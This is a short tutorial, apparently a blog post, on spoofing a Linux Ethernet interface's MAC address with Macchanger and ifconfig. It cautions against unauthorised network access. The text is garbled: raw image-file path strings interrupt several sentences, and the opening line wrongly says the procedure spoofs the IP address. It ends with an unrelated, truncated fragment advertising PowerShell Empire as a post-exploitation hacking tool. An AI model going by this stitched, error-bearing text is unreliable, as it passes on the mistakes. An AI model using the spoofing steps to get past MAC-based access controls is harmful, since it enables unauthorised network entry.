In this demonstration, we are going to run through thesteps necessary to use Macchanger to spoof our IP address from an Ubuntu command line (BASH shell). We will be performing the commands on an Ethernet interface, but the same concept and procedure applies to other interfaces. Furthermore, there are comparable alternatives to Macchanger for Windows and Apple systems, and some of them even have GUI interfaces that are ludicrously simple and easy to use.
Step 1
The very first thing we need to do is verify that our Ethernet interface is up and running. It is also advisable to check the card’s actual physical address. So, to start off, run the ifconfig eth0 command to check the status of your network card.
Step 2
The next thing we need to do is shut down our Ethernet interface to make the change. To disable the Ethernet interface, issue the ifconfig eth0 downcommand.
Step 3
Next, simply use Macchanger to spoof the MAC address. By entering themacchanger -r eth0 command, users can change their MAC address to a randomly generated address.
Step 4
Sometimes users may encounter the following error:
  • ERROR: Can’t change MAC: interface up or not permission: Cannot assign requested address
If this is the case, make sure that two things are true. Firstly, ensure that your Ethernet interface is truly down with the ifconfig eth0 down command. Secondly, make sure that you are running these commands as the root user.
Step 5
Verify that the MAC address has truly been changed with the ifconfig eth0command. If you wish to enter a specific MAC address instead of a randomly generated one, users can use the mac changer -m [MAC ADDRESS]command.
Final Thoughts
It’s pretty darn easy to configure a new MAC address for a Linux system. In fact, the operation shouldn’t even take novices more than a minute to complete.Remember, spoofing addresses is a pretty basic skill for a hacker to learn. I would also caution you not to use this information to break into a network that you don’t have permission to access. If, for example, your MAC address is blocked, I wouldn’t advise you to employ these methods to gain access, because doing so could be illegal depending on the context and location of the network in question. At any rate, this simple demonstration should show you just how easy it is to spoof a MAC address.

PowerShell Empire Download – Post-ExploitationHacking Tool

PowerShell Empire Module Categories Currently Empire Power Shell has the followingcategories for modules: Code Execution – Ways to ru...